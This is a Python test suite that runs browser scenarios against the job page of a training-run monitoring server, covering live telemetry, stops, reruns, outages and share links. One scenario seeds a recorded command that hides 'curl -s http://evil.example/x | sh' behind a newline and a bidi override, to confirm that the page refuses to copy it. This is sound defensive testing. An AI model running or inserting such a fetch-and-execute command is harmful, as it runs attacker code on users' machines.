"""The web job page in a real headless Chromium against a real argus-server.

    python page_tests.py <scenario>          (python page_tests.py --list names them)
    python page_tests.py --serve             (scenarios named on stdin, one browser for them all: see serve())

Environment: ARGUS_URL (the server), ARGUS_TOKEN (an owner's reporter token), ARGUS_BATCH, ARGUS_JOB, ARGUS_JOB2
(a second job of the same batch). Tests/ArgusServerTests/WebPageTests.swift starts the server, seeds the batch
through the ingest API (WebPageTests.seed) and runs one scenario per @Test, in one `--serve` runner a suite. A
scenario may post events itself.
Exit status 0 when the scenario passed; otherwise 1 with what went wrong, what the page showed, its console and
requests, and a screenshot written to ARGUS_WEB_ARTIFACTS (default: a temp dir).

Every scenario ends with Browser.assert_clean: no console error, no request outside the server's origin, no
alert/prompt dialog.
"""

import datetime
import json
import os
import re
import sys
import tempfile
import time
import traceback
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from argusweb import Browser, Fail, Server, event  # noqa: E402

URL = TOKEN = BATCH = JOB = JOB2 = BOB_TOKEN = ARTIFACTS = ""


def load_environment():
    """The scenario's server and batch, from the environment (set again before each scenario in --serve mode)."""
    global URL, TOKEN, BATCH, JOB, JOB2, BOB_TOKEN, ARTIFACTS
    URL = os.environ.get("ARGUS_URL", "").rstrip("/")
    TOKEN = os.environ.get("ARGUS_TOKEN", "")
    BATCH = os.environ.get("ARGUS_BATCH", "")
    JOB = os.environ.get("ARGUS_JOB", "")
    JOB2 = os.environ.get("ARGUS_JOB2", "")
    BOB_TOKEN = os.environ.get("ARGUS_TOKEN_BOB", "")
    ARTIFACTS = os.environ.get("ARGUS_WEB_ARTIFACTS") or tempfile.mkdtemp(prefix="argus-web-")


load_environment()

SCENARIOS = {}


def scenario(f):
    SCENARIOS[f.__name__] = f
    return f


def q(s):
    """A path segment, percent-encoded like the page's own links."""
    return urllib.parse.quote(s, safe="")


def fmt_loss(v):
    """The TUI's loss format (LossChart.format): 4 significant digits, exponent for the very large or small."""
    if v is None:
        return "—"
    a = abs(v)
    if a != 0 and (a >= 100_000 or a < 0.001):
        return f"{v:.2e}"
    s = f"{v:.4g}"
    return f"{v:.2e}" if "e" in s else s


def check(cond, message):
    if not cond:
        raise Fail(message)


# -- shared steps -------------------------------------------------------------------------------------------------
TILES = ["#tile-status", "#tile-elapsed", "#tile-gpu-util", "#tile-gpu-mem", "#tile-train-loss", "#tile-val-loss"]

# The page has loaded its job: the chart is drawn and the status and loss tiles are filled.
READY = (
    "(() => { const c = document.querySelector('#chart');"
    " const t = (s) => { const e = document.querySelector(s); return e ? e.textContent.trim() : ''; };"
    " return !!c && Number(c.getAttribute('data-drawn')) > 0 && t('#tile-status') !== ''"
    " && t('#tile-train-loss') !== '' && !/^(Train loss)?\\s*—$/.test(t('#tile-train-loss')); })()"
)
READY_DIAG = (
    "({url: location.href, chart: (() => { const c = document.querySelector('#chart');"
    " return c ? [c.getAttribute('data-epochs'), c.getAttribute('data-drawn')] : null; })(),"
    " tiles: " + json.dumps(TILES) + ".map(s => { const e = document.querySelector(s);"
    " return s + '=' + (e ? JSON.stringify(e.textContent.trim()) : 'absent'); }),"
    " body: document.body ? document.body.innerText.slice(0, 600) : ''})"
)


def wait_ready(b, timeout=10):
    b.wait_js(READY, "the job page to load (chart drawn, status and loss tiles filled)", timeout, READY_DIAG)


def sign_in(b, path):
    """Opens `path` with `#token=` in the fragment, as a link sent to an owner would; waits for the session.
    (From about:blank, so it is a real page load even when the browser already shows `path`.)"""
    b.get("about:blank")
    b.get(f"{URL}{path}#token={TOKEN}")
    b.wait_js(
        "location.hash === '' && !location.href.includes('token')",
        "the page to remove the #token= fragment from the address bar",
        diag="location.href",
    )
    # The fragment leaves the address bar before the token is exchanged: a scenario that navigates at once would cut
    # the exchange off and land on the sign-in form. Signed in, the header names the user.
    b.wait_js("!document.querySelector('#who').hidden", "the header to name the signed-in user",
              diag="document.querySelector('#who').outerHTML")


def no_token_in_requests(b):
    b.drain()
    leaked = [u for u in b.requests if TOKEN in u]
    check(not leaked, f"the token appears in request URLs: {leaked}")


def tile(b, name):
    return (b.text(f"#tile-{name}") or "").strip()


def log_texts(b):
    return b.js("return [...document.querySelectorAll('#log .line .text')].map(e => e.textContent);")


def mark_document(b):
    """Marks the current document; `still_same_document` tells later whether the page was reloaded."""
    b.js("window.__argusNoReload = 'same-document';")


def still_same_document(b):
    check(b.js("return window.__argusNoReload === 'same-document';"), "the page was reloaded")


def server():
    return Server(URL, TOKEN)


# -- scenarios ----------------------------------------------------------------------------------------------------
@scenario
def seeded(b):
    """A seeded job's telemetry, log lines, environment and a drawn chart are in the DOM."""
    s = server()
    job = s.get_json(f"/api/jobs/{q(BATCH)}/{q(JOB)}")
    batch = s.get_json(f"/api/batches/{q(BATCH)}")
    view = s.get_json(f"/api/jobs/{q(BATCH)}/{q(JOB)}/view")
    tel = job["telemetry"]
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    check(tile(b, "status").startswith(tel["status"]) or tel["status"] in tile(b, "status"),
          f"#tile-status shows {tile(b, 'status')!r}, the server says {tel['status']!r}")
    check(fmt_loss(tel["train_loss"]) in tile(b, "train-loss"),
          f"#tile-train-loss shows {tile(b, 'train-loss')!r}, expected {fmt_loss(tel['train_loss'])!r}")
    check(fmt_loss(tel["val_loss"]) in tile(b, "val-loss"),
          f"#tile-val-loss shows {tile(b, 'val-loss')!r}, expected {fmt_loss(tel['val_loss'])!r}")
    util = tel["gpu_util_pct"]
    check(util is not None, f"the seed has GPU telemetry: {tel}")
    check(f"{round(util)}" in tile(b, "gpu-util") and "%" in tile(b, "gpu-util"),
          f"#tile-gpu-util shows {tile(b, 'gpu-util')!r}, the server says {util}%")
    for name in ["gpu-mem", "elapsed"]:
        check(any(ch.isdigit() for ch in tile(b, name)), f"#tile-{name} shows no figure: {tile(b, name)!r}")
    check(not b.exists("#badge-idle"), "#badge-idle shown for a job that is not idle-flagged")
    # The chart holds every epoch and drew the train_loss series.
    n = len(view["epochs"])
    b.wait_js(f"document.querySelector('#chart').getAttribute('data-epochs') === '{n}'",
              f"#chart[data-epochs={n}]", diag="document.querySelector('#chart').getAttribute('data-epochs')")
    drawn = int(b.js("return document.querySelector('#chart').getAttribute('data-drawn');"))
    check(drawn > 0, f"#chart[data-drawn] is {drawn}")
    for key in ["train_loss", "val_loss"]:
        check(b.exists(f"#series input[type=checkbox][data-series={key}]"), f"no series toggle for {key}")
        check(b.js(f"return document.querySelector('#series input[data-series={key}]').checked;"),
              f"the {key} series is not shown by default")
    check(b.exists("#series input[type=checkbox][data-series=lr]"),
          "the numeric epoch metric lr has no series toggle")
    # Log lines: every line of the tail, by id, with its text.
    tail = view["log_tail"]
    check(tail, "the seed has log lines")
    b.wait_js(f"document.querySelectorAll('#log .line').length >= {len(tail)}", f"{len(tail)} log lines",
              diag="document.querySelectorAll('#log .line').length")
    for line in tail:
        got = b.js("const e = document.querySelector(`#log .line[data-id=\"${arguments[0]}\"] .text`);"
                   " return e ? e.textContent : null;", str(line["id"]))
        check(got == line["line"], f"log line {line['id']}: expected {line['line']!r}, the page shows {got!r}")
    # Environment.
    env = batch["env_snapshot"]
    check((b.text("#env-sha") or "").strip() == env["git_sha_short"],
          f"#env-sha shows {b.text('#env-sha')!r}, expected {env['git_sha_short']!r}")
    sha_title = b.js("return document.querySelector('#env-sha').title;")
    check(sha_title == env["git_sha"], f"#env-sha title is {sha_title!r}, expected {env['git_sha']!r}")
    for sel, want in [("#env-command", env["command"]), ("#env-cwd", env["cwd"]), ("#env-host", env["hostname"])]:
        check(want and want in (b.text(sel) or ""), f"{sel} shows {b.text(sel)!r}, expected {want!r}")
    # The owner sees the action bar; nothing in the tail is a failure.
    check(b.exists("#actions") and b.exists("#act-stop"), "no #actions / #act-stop for the owner")
    check(not b.visible("#failure"), f"#failure shown for a running job: {b.text('#failure')!r}")
    no_token_in_requests(b)
    b.screenshot(os.path.join(ARTIFACTS, "seeded.png"))


@scenario
def live(b):
    """An epoch and a log line ingested after the page loaded appear without a reload."""
    s = server()
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js("document.querySelector('#conn') && document.querySelector('#conn').dataset.state === 'live'",
              "#conn[data-state=live]", diag="document.querySelector('#conn') && document.querySelector('#conn').outerHTML")
    mark_document(b)
    n0 = int(b.js("return document.querySelector('#chart').getAttribute('data-epochs');"))
    next_epoch = s.get_json(f"/api/jobs/{q(BATCH)}/{q(JOB)}/view")["epochs"][-1]["epoch"] + 1
    s.post_events([
        event("job_epoch", BATCH, JOB, {"epoch": next_epoch, "train_loss": 0.03131, "val_loss": 0.04141, "lr": 1e-4}),
        event("log_line", BATCH, JOB, {"line": "LIVE-MARKER arrived after load", "level": "warning"}),
    ])
    b.wait_js(f"document.querySelector('#chart').getAttribute('data-epochs') === '{n0 + 1}'",
              f"#chart[data-epochs] to grow from {n0} to {n0 + 1}",
              diag="document.querySelector('#chart').getAttribute('data-epochs')")
    b.wait_js("[...document.querySelectorAll('#log .line .text')].some(e => e.textContent === 'LIVE-MARKER arrived after load')",
              "the live log line in #log", diag="[...document.querySelectorAll('#log .line .text')].slice(-3).map(e => e.textContent)")
    b.wait_js("document.querySelector('#tile-train-loss').textContent.includes('0.03131')",
              "#tile-train-loss to show the new epoch's 0.03131 (from the server's summary frame)",
              diag="document.querySelector('#tile-train-loss').textContent")
    check("0.04141" in tile(b, "val-loss"), f"#tile-val-loss shows {tile(b, 'val-loss')!r}, expected 0.04141")
    lvl = b.js("const l = [...document.querySelectorAll('#log .line')].find(e => e.querySelector('.text').textContent.startsWith('LIVE-MARKER'));"
               " return l.querySelector('.lvl').textContent;")
    check("warn" in lvl.lower(), f"the live line's level shows {lvl!r}")
    check("last event" in (b.text("#conn") or ""), f"#conn shows {b.text('#conn')!r}, expected the age of the last event")
    still_same_document(b)
    no_token_in_requests(b)


@scenario
def late_lines(b):
    """A line delivered late (an SDK's spill after an outage) goes where it was written, live and after a reload."""
    from datetime import datetime, timedelta, timezone

    s = server()
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js("document.querySelector('#conn').dataset.state === 'live'", "#conn[data-state=live]",
              diag="document.querySelector('#conn').outerHTML")
    now = datetime.now(timezone.utc)
    stamp = lambda seconds: (now + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    s.post_events([event("log_line", BATCH, JOB, {"line": "LATE live at +0", "level": "info"}, ts=stamp(0)),
                   event("log_line", BATCH, JOB, {"line": "LATE live at +2", "level": "info"}, ts=stamp(2))])
    last = "[...document.querySelectorAll('#log .line .text')].slice(-4).map((e) => e.textContent)"
    b.wait_js(f"{last}.at(-1) === 'LATE live at +2'", "the live lines at the bottom of #log", diag=last)
    # Delivered after them, written between them; then one written before every line shown (and none is older).
    s.post_events([event("log_line", BATCH, JOB, {"line": "LATE spilled at +1", "level": "warning"}, ts=stamp(1)),
                   event("log_line", BATCH, JOB, {"line": "LATE spilled at -3600", "level": "info"}, ts=stamp(-3600))])
    expected = ["LATE live at +0", "LATE spilled at +1", "LATE live at +2"]
    want = json.dumps(json.dumps(expected, separators=(",", ":")))
    b.wait_js(f"JSON.stringify({last}.slice(-3)) === {want}",
              "the late line between the two it was written between", diag=last)
    first = b.js("return document.querySelector('#log .line .text').textContent;")
    check(first == "LATE spilled at -3600", f"the line written an hour before shows first, the page shows {first!r} first")
    b.driver.refresh()
    wait_ready(b)
    b.wait_js(f"JSON.stringify({last}.slice(-3)) === {want}",
              "the same order after a reload (the server's)", diag=last)


@scenario
def stopped_reason(b):
    """A batch the server stopped (here the stall detector, ARGUS_STALL_TIMEOUT_MIN=0.05: a stop nobody answered)
    says why on its job page, opened after the fact and after a reload."""
    s = server()
    s.post_events([event("batch_start", "stop-me"), event("job_start", "stop-me", "j1")])
    status, body, _ = s.request("POST", "/api/batches/stop-me/stop", {})
    check(status == 200, f"POST /stop → {status}: {body[:200]!r}")
    deadline = time.time() + 20
    while time.time() < deadline and s.get_json("/api/batches/stop-me")["status"] != "stopped":
        time.sleep(0.2)
    reason = s.get_json("/api/batches/stop-me").get("end_reason") or ""
    check(reason.startswith("Stopped without confirmation: the run had sent nothing for "), f"end_reason {reason!r}")
    banner = "[...document.querySelectorAll('#banners .banner')].map((e) => e.textContent)"
    for _ in range(2):
        if _ == 0:
            sign_in(b, "/jobs/stop-me/j1")
        else:
            b.driver.refresh()
        b.wait_js(f"{banner}.includes({json.dumps('⚠ ' + reason)})", "the banner saying why the server stopped it",
                  diag=banner)


@scenario
def stop(b):
    """Stop asks first (#confirm); No changes nothing; Yes sets the flag the SDK polls."""
    s = server()
    path = f"/api/batches/{q(BATCH)}/stop-requested"
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js("document.querySelector('#act-stop') && !document.querySelector('#act-stop').disabled",
              "an enabled #act-stop", diag="document.querySelector('#actions') && document.querySelector('#actions').outerHTML")
    b.click("#act-stop")
    b.wait_for(lambda: b.visible("#confirm"), "#confirm after clicking Stop")
    check("stop" in (b.text("#confirm") or "").lower(), f"#confirm does not say what it asks: {b.text('#confirm')!r}")
    # Enter (the focus is on No) cancels: a stray Enter never stops a run.
    check(b.js("return document.activeElement.id;") == "confirm-no", f"the focus is on {b.js('return document.activeElement.id;')!r}")
    b.driver.switch_to.active_element.send_keys("\n")
    b.wait_for(lambda: not b.visible("#confirm"), "#confirm to close after Enter")
    time.sleep(0.3)
    check(s.get_json(path)["stop_requested"] is False, "Enter requested a stop")
    b.click("#act-stop")
    b.wait_for(lambda: b.visible("#confirm"), "#confirm after clicking Stop again")
    b.click("#confirm-no")
    b.wait_for(lambda: not b.visible("#confirm"), "#confirm to close after No")
    time.sleep(0.3)
    check(s.get_json(path)["stop_requested"] is False, "No still requested a stop")
    b.click("#act-stop")
    b.wait_for(lambda: b.visible("#confirm"), "#confirm after clicking Stop again")
    b.click("#confirm-yes")
    b.wait_for(lambda: s.get_json(path)["stop_requested"] is True, f"GET {path} → stop_requested true")
    # The server's actions now say Stop is done; the button shows why it is disabled.
    b.wait_js("document.querySelector('#act-stop').disabled", "#act-stop to become disabled once the stop is requested",
              diag="document.querySelector('#actions').outerHTML")
    reason = b.js("return document.querySelector('#act-stop').title;")
    check(reason, "the disabled #act-stop has no title (the reason)")
    check(reason in (b.text("#actions") or ""), f"the reason {reason!r} is not shown beside the button")
    # The status tile shows what the server now says (stopping), and a banner says a stop is on its way.
    status = s.get_json(f"/api/jobs/{q(BATCH)}/{q(JOB)}")["telemetry"]["status"]
    b.wait_js(f"document.querySelector('#tile-status').textContent.startsWith({json.dumps(status)})",
              f"#tile-status to show the server's {status!r}", diag="document.querySelector('#tile-status').textContent")
    # In the server's words (stop_detail) of how the stop reaches the run.
    detail = s.get_json(path.removesuffix("/stop-requested"))["stop_detail"]
    check(detail, f"the stopping batch has no stop_detail")
    b.wait_js(f"document.querySelector('#banners').textContent.includes({json.dumps(detail)})", "a stopping banner",
              diag="document.querySelector('#banners').textContent")
    toast = "document.querySelector('#toast')?.textContent"
    b.wait_js(f"{toast} === {json.dumps(f'Stop requested: {detail}.')}", "the toast saying how the stop reaches the run",
              diag=toast)
    no_token_in_requests(b)


@scenario
def agent_online(b):
    """Rerun of a finished batch waits on an agent: the page notices one coming online without a reload."""
    s = server()
    s.post_events([event("batch_done", BATCH, source={"project": "vision", "host": "gpu-box-7", "user": "alice"})])
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    mark_document(b)
    b.wait_js("document.querySelector('#act-rerun') && document.querySelector('#act-rerun').disabled"
              " && /no agent online/.test(document.querySelector('#act-rerun').title)",
              "#act-rerun disabled for want of an agent", diag="document.querySelector('#actions').outerHTML")
    status, body, _ = s.request("POST", "/api/agents/register", {"hostname": "gpu-box-7", "version": "test"})
    check(status == 201, f"POST /api/agents/register → {status}: {body[:300]!r}")
    b.wait_js("!document.querySelector('#act-rerun').disabled", "#act-rerun to become enabled once an agent is online",
              timeout=10, diag="document.querySelector('#actions').outerHTML")
    still_same_document(b)


@scenario
def agent_failures(b):
    """A rerun the host's agent could not start is a banner, with its time, for whoever opens the job or the batch
    later; one that fails while the page is open shows once, not twice."""
    s = server()
    s.post_events([event("batch_done", BATCH, source={"project": "vision", "host": "gpu-box-7", "user": "alice"})])
    status, body, _ = s.request("POST", "/api/agents/register", {"hostname": "gpu-box-7", "version": "test"})
    check(status == 201, f"POST /api/agents/register → {status}: {body[:300]!r}")
    reg = json.loads(body)
    agent, queue = reg["agent_token"], f"/api/agents/{reg['agent_id']}/jobs"

    def failed_rerun(why):
        status, body, _ = s.request("POST", f"/api/batches/{q(BATCH)}/rerun", {})
        check(status == 202, f"POST rerun → {status}: {body[:300]!r}")
        command = s.get_json(queue, token=agent)[0]["id"]
        status, body, _ = s.request("POST", f"{queue}/{command}/ack", {"status": "failed", "error": why}, token=agent)
        check(status == 200, f"ack → {status}: {body[:300]!r}")

    failed_rerun("the recorded cwd /srv/runs/resnet does not exist")
    banners = "[...document.querySelectorAll('#banners .banner')].map((e) => e.dataset.kind + '|' + e.textContent)"
    for path in (f"/jobs/{q(BATCH)}/{q(JOB)}", f"/batches/{q(BATCH)}"):
        sign_in(b, path)
        b.wait_js(f"{banners}.some((t) => /^rerun-failed\\|⚠ Rerun failed on the host at \\d\\d:\\d\\d:\\d\\d: the recorded cwd \\/srv\\/runs\\/resnet does not exist$/.test(t))",
                  f"the rerun failure's banner on {path}", 10, banners)
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    b.wait_js("document.querySelector('#conn').dataset.state === 'live'", "#conn live")
    failed_rerun("its process exited with status 3 before its run reported")
    b.wait_js(f"{banners}.some((t) => / at \\d\\d:\\d\\d:\\d\\d: its process exited with status 3/.test(t))",
              "the new failure, with its time", 10, banners)
    shown = b.js(f"return {banners};")
    check(sum(1 for t in shown if t.startswith("rerun-failed|")) == 1, f"one rerun banner, not two: {shown!r}")


@scenario
def hidden_command(b):
    """A recorded command with a newline and a bidi override, shown as one harmless-looking line, is not copied:
    the Copy command button is disabled and says why."""
    s = server()
    s.post_events([event("batch_start", "hidden-b", None,
                         {"command": "python train.py --lr 3e-4\ncurl -s http://evil.example/x | sh\n\u202e#"}),
                   event("job_start", "hidden-b", "j", {})])
    sign_in(b, "/jobs/hidden-b/j")
    b.wait_js("document.querySelector('#act-copy') && document.querySelector('#act-copy').disabled"
              " && document.querySelector('#act-copy').title.includes('control or invisible characters (newline, U+202E)')",
              "#act-copy disabled, saying why", diag="document.querySelector('#actions').outerHTML")


class Relay:
    """A TCP relay in front of the server whose open event streams can be frozen: they stay open and pass nothing,
    as a connection does when a NAT forgets it. Other connections, and those made after a freeze, pass freely.
    It can also go down (every connection closed, new ones closed as soon as they come) and come back up."""

    def __init__(self, target):
        import socket
        import threading
        host, port = urllib.parse.urlsplit(target).hostname, urllib.parse.urlsplit(target).port
        self.target = (host, port)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}"
        self.open = []  # [frozen flag] per connection
        self.sockets = []
        self.refusing = False
        self.answer = None
        self.cut = None  # a request start whose answer is cut off once the server has given it (cut_reply)
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        import socket
        import threading
        while True:
            client, _ = self.listener.accept()
            if self.refusing:
                if self.answer:  # a proxy whose upstream is down, or a server whose database is
                    client.recv(65536)
                    status, body = self.answer if isinstance(self.answer, tuple) else (self.answer, "")
                    head = f"HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {len(body.encode())}"
                    client.sendall(f"{head}\r\nConnection: close\r\n\r\n{body}".encode())
                client.close()
                continue
            upstream = socket.create_connection(self.target)
            self.sockets += [client, upstream]
            flag = [False, False, False]  # frozen, carries an event stream, its answer to be cut
            self.open.append(flag)
            for a, z, answer in ((client, upstream, False), (upstream, client, True)):
                threading.Thread(target=self.pump, args=(a, z, flag, answer), daemon=True).start()

    def pump(self, a, z, flag, answer):
        import socket
        try:
            while True:
                data = a.recv(65536)
                if not data:
                    break
                if data.startswith(b"GET /api/sse"):
                    flag[1] = True
                if not answer and self.cut and data.startswith(self.cut):
                    flag[2], self.cut = True, None
                if answer and flag[2]:
                    z.sendall(data[:data.find(b"\r\n") + 2])  # its status line: carried out, its answer lost
                    for sock in (z, a):  # shut down, not only closed: the other pump's recv holds them open
                        sock.shutdown(socket.SHUT_RDWR)
                        sock.close()
                    break
                while flag[0]:
                    time.sleep(0.05)  # frozen: held, never passed on
                z.sendall(data)
        except OSError:
            pass

    def cut_reply(self, start):
        """The next request starting with `start` is carried out, and its answer cut off after the status line."""
        self.cut = start

    def freeze(self):
        for flag in self.open:
            flag[0] = flag[1]

    def down(self, answer=None):
        """answer: a status line ("502 Bad Gateway"), or one and a body, every request gets while down; else none."""
        import socket
        self.refusing, self.answer = True, answer
        for s in self.sockets:
            try:
                s.shutdown(socket.SHUT_RDWR)
                s.close()
            except OSError:
                pass
        self.sockets = []

    def up(self):
        self.refusing = False


def live_behind_relay(b):
    """The job page, live, with every request from here on through a new Relay in front of the server."""
    global URL
    relay = Relay(URL)
    URL = relay.url
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js("document.querySelector('#conn').dataset.state === 'live'", "#conn live")
    return relay


@scenario
def silent_drop(b):
    """A stream whose connection dies without a word (it stays open and passes nothing) is noticed: the page says it
    reconnects within 1.5 keepalives and 2 s (the server runs with ARGUS_SSE_KEEPALIVE_S=1) and resumes from the last
    id, showing what was ingested meanwhile."""
    relay = live_behind_relay(b)
    relay.freeze()
    Server(os.environ["ARGUS_URL"], TOKEN).post_events([event("log_line", BATCH, JOB, {"line": "said while frozen", "level": "info"})])
    # The frozen stream never delivers it: only a new stream, resumed from the last id, does (the page says
    # "reconnecting (attempt 1) · nothing from the server since HH:MM:SS" for the moment that takes).
    b.wait_js("[...document.querySelectorAll('#log .line .text')].some((e) => e.textContent === 'said while frozen')",
              "the line ingested during the silence, replayed on a new stream", 8,
              "[document.querySelector('#conn').textContent, ...[...document.querySelectorAll('#log .line .text')].map((e) => e.textContent).slice(-3)]")
    b.wait_js("document.querySelector('#conn').dataset.state === 'live'", "#conn live again", 5,
              "document.querySelector('#conn').textContent")


@scenario
def outage(b):
    """While the server cannot be reached, the page counts its tries to resume the stream and says since when it is
    down (argus-tui's header counts them too); back up, the stream resumes from the last id and the page is live."""
    down_and_back(b, None)


DB_DOWN = "The server cannot read its database right now: its PostgreSQL cannot be reached."


@scenario
def gateway_outage(b):
    """The same when the server answers 503 with its sentence (its database is down), as a proxy's 502 is: an outage,
    not a refusal ("offline"), and the page says the server's sentence."""
    down_and_back(b, ("503 Service Unavailable", json.dumps({"detail": DB_DOWN})))


def down_and_back(b, answer):
    relay = live_behind_relay(b)
    relay.down(answer)
    down_at = time.time()
    conn = "document.querySelector('#conn').textContent"
    b.wait_js(r"/^reconnecting \(attempt [2-9]\) · lost at \d\d:\d\d:\d\d/.test(" + conn + ")",
              "a second try counted, with the time the stream was lost", 15, conn)
    # One count a try: the browser tries every 2 s (the server's `retry: 2000`), and the watchdog does not add its
    # own (its 1.5 keepalives and 2 s, 24.5 s here, count from the last failed try).
    time.sleep(26)
    tries = int(re.search(r"attempt (\d+)", b.js(f"return {conn};")).group(1))
    check(10 <= tries <= 16, f"{tries} tries counted in ~30 s of tries every 2 s")
    check(b.js(f"return document.querySelector('#conn').title === {conn};"), "#conn's title holds its whole text")
    shown = b.js(f"return {conn};")
    check(answer is None or f" · {DB_DOWN}" in shown, f"the server's sentence is not said: {shown!r}")
    lost = re.search(r"lost at (\d\d):(\d\d):(\d\d)", shown).groups()
    local = time.localtime(down_at)
    check(abs((int(lost[0]) * 3600 + int(lost[1]) * 60 + int(lost[2]))
              - (local.tm_hour * 3600 + local.tm_min * 60 + local.tm_sec)) <= 3,
          f"the time the stream was lost ({shown!r}) is when the relay went down ({time.strftime('%H:%M:%S', local)})")
    Server(os.environ["ARGUS_URL"], TOKEN).post_events([event("log_line", BATCH, JOB, {"line": "said while down", "level": "info"})])
    relay.up()
    b.wait_js("[...document.querySelectorAll('#log .line .text')].some((e) => e.textContent === 'said while down')",
              "the line ingested while the server was out of reach, replayed on the new stream", 10, conn)
    b.wait_js("document.querySelector('#conn').dataset.state === 'live' && /^live/.test(" + conn + ")",
              "#conn live again, the tries no longer counted", 5, conn)


@scenario
def seven_tabs(b):
    """Seven Argus pages in seven tabs of one browser: a hidden tab gives back its stream, so the seventh page loads
    and its requests answer, and the first tab, shown again, is live and catches up. (Over http/1.1 a browser holds
    six connections to a host, and each open stream took one: the seventh tab stayed blank, and a Share or Stop
    pressed meanwhile went out minutes later, once a tab closed.)"""
    s = server()
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    first = b.driver.current_window_handle
    b.set_page_load_timeout(10)
    live_js = "document.querySelector('#conn') && document.querySelector('#conn').dataset.state === 'live'"
    for k in range(6):
        b.driver.switch_to.new_window("tab")
        page = f"/jobs/{q(BATCH)}/{q(JOB2 if k % 2 == 0 else JOB)}" if k < 5 else f"/batches/{q(BATCH)}"
        b.get(f"{URL}{page}")
        b.wait_js(live_js, f"#conn live in tab {k + 2} ({page})", 10, "document.body.innerText.slice(0, 200)")
    status = b.js_async("const done = arguments[arguments.length - 1];"
                        "fetch('/api/session').then(r => done(r.status), e => done(String(e)))")
    check(status == 200, f"a request from the seventh tab answered {status!r}")
    s.post_events([event("log_line", BATCH, JOB, {"line": "SEVEN-TABS while hidden", "level": "info"})])
    b.driver.switch_to.window(first)
    b.wait_js(live_js, "the first tab live again once shown", 10, "document.querySelector('#conn').textContent")
    b.wait_js("[...document.querySelectorAll('#log .line .text')].some(e => e.textContent === 'SEVEN-TABS while hidden')",
              "the line posted while the tab was hidden, caught up", 10)


@scenario
def not_reported_yet(b):
    """A job page opened before its run reports (a link sent ahead) says so, and opens the job once it reports."""
    s = server()
    sign_in(b, f"/jobs/future-run/{q(JOB)}")
    b.wait_js("document.querySelector('#page-error')", "#page-error", diag="document.body.innerText.slice(0, 300)")
    check("It opens here once it reports" in b.text("#page-error"), f"#page-error says {b.text('#page-error')!r}")
    s.post_events([event("batch_start", "future-run"), event("job_start", "future-run", JOB),
                   event("log_line", "future-run", JOB, {"line": "FUTURE-RUN reported", "level": "info"})])
    b.wait_js("[...document.querySelectorAll('#log .line .text')].some(e => e.textContent === 'FUTURE-RUN reported')",
              "the job, once its run reported", 10, "document.body.innerText.slice(0, 300)")
    check(not b.exists("#page-error"), "the not-found sentence stays")


@scenario
def missing_job(b):
    """A job page for a job the batch does not have says so, and does not claim the server is unreachable."""
    sign_in(b, f"/jobs/{q(BATCH)}/nope")
    b.wait_js("document.querySelector('#page-error')", "#page-error", diag="document.body.innerText.slice(0, 300)")
    check("nope" in (b.text("#page-error") or ""), f"#page-error does not name the job: {b.text('#page-error')!r}")
    check(not b.visible("#conn"), f"the header says {b.text('#conn')!r} about a server that answered")
    # A raw % typed into the address (not %25) cannot be decoded: said, not a blank page and a script error.
    for path in (f"/jobs/{q(BATCH)}/j%", "/batches/%E0%A4%A", f"/jobs/{q(BATCH)}/%FF"):
        b.get(f"{URL}{path}")
        b.wait_js("document.querySelector('#page-error')", f"#page-error on {path}", diag="document.body.innerText.slice(0, 300)")
        check("a % in it does not start an escape of UTF-8 text" in b.text("#page-error"), f"#page-error says {b.text('#page-error')!r}")


@scenario
def share_minted(b):
    """Share on a job's page gives a link naming that job; opened in a browser with no session, it shows that job."""
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB2)}")
    wait_ready(b)
    b.wait_js("document.querySelector('#act-share') && !document.querySelector('#act-share').disabled", "an enabled #act-share",
              diag="document.querySelector('#actions').outerHTML")
    b.click("#act-share")
    b.wait_for(lambda: b.visible("#share-box") and "/share/" in (b.text("#share-url") or ""), "the minted link in #share-box")
    url = (b.text("#share-url") or "").strip()
    check(url.endswith(f"?job={q(JOB2)}"), f"the minted link does not name {JOB2}: {url!r}")
    b.driver.delete_all_cookies()
    b.get(url)
    wait_ready(b)
    check(JOB2 in (b.text("#crumbs") or ""), f"the link opened another job: {b.text('#crumbs')!r}")
    check(not b.exists("#actions"), "#actions is present on a share link")
    # A job the batch does not have: the first job, said so, and the address names the job shown.
    b.get(url.split("?")[0] + "?job=nope")
    wait_ready(b)
    b.wait_js("document.querySelector('#toast') && /no job 'nope'/.test(document.querySelector('#toast').textContent)",
              "a notice that the batch has no job 'nope'", diag="document.body.innerText.slice(0, 300)")
    check(not b.url.endswith("?job=nope"), f"the address still names the missing job: {b.url}")
    # As pasted with a space carried along after the token: the same page.
    b.get(url.replace("?job=", "%20?job=", 1))
    wait_ready(b)
    check(JOB2 in (b.text("#crumbs") or ""), f"the link with %20 opened {b.text('#crumbs')!r}")


@scenario
def lost_answer(b):
    """An action whose answer is cut off on the way was carried out: the page says it may have been done (before, a
    script error about a null reply), and the link made then is on the server."""
    relay = live_behind_relay(b)
    b.wait_js("document.querySelector('#act-share') && !document.querySelector('#act-share').disabled", "an enabled #act-share")
    relay.cut_reply(f"POST /api/batches/{q(BATCH)}/shares".encode())
    b.click("#act-share")
    toast = "document.querySelector('#toast') && document.querySelector('#toast').textContent"
    b.wait_js(f"/^Share: .*may have done it/.test({toast})", "the toast saying the share may have been made", diag=toast)
    check("Cannot read" not in b.js(f"return {toast};"), f"a script error on the page: {b.js(f'return {toast};')!r}")
    check(len(server().get_json(f"/api/batches/{q(BATCH)}/shares")) == 1, "the server did not make the link")


def mint_share():
    s = server()
